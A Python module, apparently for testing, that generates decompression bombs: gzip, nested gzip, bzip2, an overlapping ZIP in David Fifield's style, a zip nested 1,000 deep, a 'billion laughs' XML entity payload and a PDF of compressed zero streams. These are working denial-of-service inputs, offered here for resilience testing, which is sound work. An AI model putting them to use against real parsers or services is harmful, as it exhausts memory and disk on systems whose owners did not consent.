"""Small files that unpack to great ones."""

import bz2
import gzip
import io
import struct
import zipfile
import zlib

MEBIBYTE = 1 << 20


def zeros(count, coder, flush=True):
    """What a compressor makes of so many zeros."""
    piece = bytes(min(count, 8 * MEBIBYTE))
    output = [coder.compress(piece[:min(len(piece), count - at)]) for at in range(0, count, len(piece))]
    return b"".join(output) + (coder.flush() if flush else b"")


def raw_deflate(count):
    return zeros(count, zlib.compressobj(9, zlib.DEFLATED, -15))


def gzip_of_zeros(count):
    return zeros(count, zlib.compressobj(9, zlib.DEFLATED, 31))


def nested_gzip(gibibytes, levels):
    """Zeros, compressed again and again."""
    content = gzip_of_zeros(gibibytes << 30)
    for _ in range(levels - 1):
        content = gzip.compress(content)
    return content


def bzip2_of_zeros(gibibytes):
    """So many GiB, as streams of one GiB: bzip2 reads them one after the other."""
    return zeros(1 << 30, bz2.BZ2Compressor(9)) * gibibytes


def overlapping_zip(members, member_bytes):
    """A ZIP archive as David Fifield makes them: the data of each member are the headers of those behind it,
    as stored blocks, and then the zeros of the last one."""
    data, behind, headers = raw_deflate(member_bytes), b"", []
    zero = bytes(member_bytes)
    for number in reversed(range(members)):
        name = f"{number:04}".encode()
        common = struct.pack(
            "<HHHHHIIIHH", 20, 0, 8, 0, 0x21, zlib.crc32(zero, zlib.crc32(behind)), len(data),
            len(behind) + member_bytes, len(name), 0)
        local = b"PK\3\4" + common + name
        headers.insert(0, (common, name))
        behind = local + behind
        # The member before this one has this header as a block, and then what this one has.
        data = struct.pack("<BHH", 0, len(local), len(local) ^ 0xFFFF) + local + data
    # Before the first header there is no block.
    body = data[5:]
    directory = b"".join(
        b"PK\1\2\x14\0" + common + struct.pack("<HHHII", 0, 0, 0, 0, number * (30 + len(name) + 5)) + name
        for number, (common, name) in enumerate(headers))
    end = struct.pack("<HHHHIIH", 0, 0, members, members, len(directory), len(body), 0)
    return body + directory + b"PK\5\6" + end


def zip_of_zeros(count):
    """An archive with one member."""
    output = io.BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros", "w", force_zip64=True) as member:
            for _ in range(count // MEBIBYTE):
                member.write(bytes(MEBIBYTE))
    return output.getvalue()


def nested_zip(levels):
    """An archive in an archive, and so on."""
    content = bytes(64)
    for number in range(levels):
        output = io.BytesIO()
        with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{number}.zip", content)
        content = output.getvalue()
    return content


def billion_laughs(levels=10, times=10):
    lines = ['<!ENTITY l0 "ha">'] + [
        f'<!ENTITY l{level} "{f"&l{level - 1};" * times}">' for level in range(1, levels)]
    return f'<?xml version="1.0"?><!DOCTYPE l [{"".join(lines)}]><l>&l{levels - 1};</l>'.encode()


def pdf_of_zeros(streams, stream_bytes):
    """A PDF file with streams of objects that are nothing but zeros."""
    packed = zeros(stream_bytes, zlib.compressobj(9))
    parts = [b"%PDF-1.5\n", b"1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n",
             b"2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\nendobj\n",
             b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"]
    for number in range(4, 4 + streams):
        parts.append(b"%d 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%b"
                     b"\nendstream\nendobj\n" % (number, len(packed), packed))
    places, at = [], 0
    for part in parts:
        places.append(at)
        at += len(part)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % len(parts)
    table += b"".join(b"%010d 00000 n \n" % place for place in places[1:])
    trailer = b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(parts), at)
    return b"".join(parts) + table + trailer


def all_bombs(is_quick):
    """Names and bytes."""
    gibibytes = 1 if is_quick else 10
    yield "overlapping zip, 5 GB", overlapping_zip(250, 21_849_000)
    yield "gzip, 1 GiB", gzip_of_zeros(1 << 30)
    yield "gzip in gzip, three times, 1 GiB", nested_gzip(1, 3)
    yield f"bzip2, {gibibytes} GiB", bzip2_of_zeros(gibibytes)
    yield "zip, 1 GiB", zip_of_zeros(1 << 30)
    yield "zip in zip, 1,000 times", nested_zip(1000)
    yield "billion laughs", billion_laughs()
    yield "PDF, 100 object streams of 32 MiB", pdf_of_zeros(100, 32 * MEBIBYTE)
